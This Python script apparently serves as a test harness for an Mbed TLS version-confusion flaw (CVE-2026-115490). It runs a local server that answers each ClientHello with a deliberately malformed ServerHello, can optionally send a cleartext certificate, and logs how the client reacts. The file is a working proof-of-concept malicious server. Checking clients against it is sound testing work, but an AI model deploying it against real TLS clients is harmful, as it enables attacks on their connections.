#!/usr/bin/env python3
"""tls_confusion_server.py: a hostile TLS server for the Mbed TLS
version-confusion attack (CVE-2026-115490), on raw sockets, no ssl module.

  tls_confusion_server.py --port-file F [--follow none|cert] [--cert PEM]
                          [--wait SECONDS]

For each connection it reads the ClientHello record and answers one
ServerHello with legacy_version 0x0304, 32 random bytes, the client's
legacy_session_id echoed, cipher suite 0x1301 (TLS_AES_128_GCM_SHA256),
compression 0 and one harmless TLS 1.2 extension (renegotiation_info),
but no supported_versions.  A correct client must refuse it at once:
legacy_version is 0x0303 in every TLS 1.3 ServerHello, and without
supported_versions the server has chosen TLS 1.2, for which 0x1301 is no
suite.  --follow cert then sends, in the clear, a TLS 1.3 Certificate
message with the chain in PEM (what a confused client expects next).

Writes its port to F once listening, and to F.log one line per event,
times in seconds since the ServerHello was sent:
  hello offered=<versions from supported_versions> sid=<len>
  serverhello sent
  +T alert level=<1|2> desc=<n> raw=<record hex>
  +T record type=<n> len=<n> [hs=<handshake type>]
  +T eof              the client closed
  +T quiet            nothing more within --wait seconds
"""
import argparse
import base64
import os
import socket
import struct
import time

ap = argparse.ArgumentParser()
ap.add_argument("--port-file", required=True)
ap.add_argument("--follow", choices=["none", "cert"], default="none")
ap.add_argument("--cert", help="PEM chain for --follow cert")
ap.add_argument("--wait", type=float, default=3.0)
args = ap.parse_args()
log = open(args.port_file + ".log", "a", buffering=1)


def recv_exact(s, n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            raise EOFError
        b += c
    return b


def record(typ, body):
    return struct.pack(">BHH", typ, 0x0303, len(body)) + body


def handshake(typ, body):
    return struct.pack(">B", typ) + len(body).to_bytes(3, "big") + body


def client_hello(s):
    """Read one ClientHello record; return (session id, offered versions)."""
    hdr = recv_exact(s, 5)
    body = recv_exact(s, struct.unpack(">H", hdr[3:5])[0])
    if hdr[0] != 22 or body[0] != 1:
        raise ValueError("not a ClientHello")
    p = 4 + 2 + 32
    sid = body[p + 1:p + 1 + body[p]]
    p += 1 + body[p]
    p += 2 + struct.unpack(">H", body[p:p + 2])[0]   # cipher suites
    p += 1 + body[p]                                  # compression
    versions = []
    if p + 2 <= len(body):
        end = p + 2 + struct.unpack(">H", body[p:p + 2])[0]
        p += 2
        while p + 4 <= end:
            typ, n = struct.unpack(">HH", body[p:p + 4])
            if typ == 43:                             # supported_versions
                v = body[p + 5:p + 4 + n]
                versions = ["%02x%02x" % (v[i], v[i + 1])
                            for i in range(0, len(v) - 1, 2)]
            p += 4 + n
    return sid, versions


def server_hello(sid):
    rnd = os.urandom(32)
    exts = struct.pack(">HHB", 0xff01, 1, 0)          # renegotiation_info
    body = (b"\x03\x04" + rnd + bytes([len(sid)]) + sid + b"\x13\x01\x00" +
            struct.pack(">H", len(exts)) + exts)
    return record(22, handshake(2, body))


def certificate13(path):
    """A TLS 1.3 Certificate message (RFC 8446 4.4.2) of the PEM chain."""
    ders, cur = [], None
    for line in open(path):
        line = line.strip()
        if line.startswith("-----BEGIN CERTIFICATE"):
            cur = []
        elif line.startswith("-----END CERTIFICATE"):
            ders.append(base64.b64decode("".join(cur)))
            cur = None
        elif cur is not None:
            cur.append(line)
    lst = b"".join(len(d).to_bytes(3, "big") + d + b"\x00\x00" for d in ders)
    return record(22, handshake(11, b"\x00" + len(lst).to_bytes(3, "big") + lst))


def watch(s, t0):
    """Log what the client sends until it closes or goes quiet."""
    s.settimeout(0.05)
    buf = b""
    while True:
        now = time.monotonic() - t0
        if now > args.wait:
            log.write("+%.3f quiet\n" % now)
            return
        try:
            c = s.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            c = b""
        now = time.monotonic() - t0
        if not c:
            log.write("+%.3f eof\n" % now)
            return
        buf += c
        while len(buf) >= 5:
            n = struct.unpack(">H", buf[3:5])[0]
            if len(buf) < 5 + n:
                break
            rec, buf = buf[:5 + n], buf[5 + n:]
            if rec[0] == 21 and n == 2:
                log.write("+%.3f alert level=%d desc=%d raw=%s\n" %
                          (now, rec[5], rec[6], rec.hex()))
            else:
                hs = " hs=%d" % rec[5] if rec[0] == 22 and n > 0 else ""
                log.write("+%.3f record type=%d len=%d%s\n" %
                          (now, rec[0], n, hs))


srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", 0))
srv.listen(8)
with open(args.port_file + ".tmp", "w") as f:
    f.write(str(srv.getsockname()[1]))
os.rename(args.port_file + ".tmp", args.port_file)
follow = certificate13(args.cert) if args.follow == "cert" else b""

while True:
    conn, _ = srv.accept()
    try:
        sid, versions = client_hello(conn)
        log.write("hello offered=%s sid=%d\n" % (",".join(versions), len(sid)))
        conn.sendall(server_hello(sid) + follow)
        t0 = time.monotonic()
        log.write("serverhello sent\n")
        watch(conn, t0)
    except (EOFError, ValueError, OSError) as e:
        log.write("error %s\n" % e)
    conn.close()
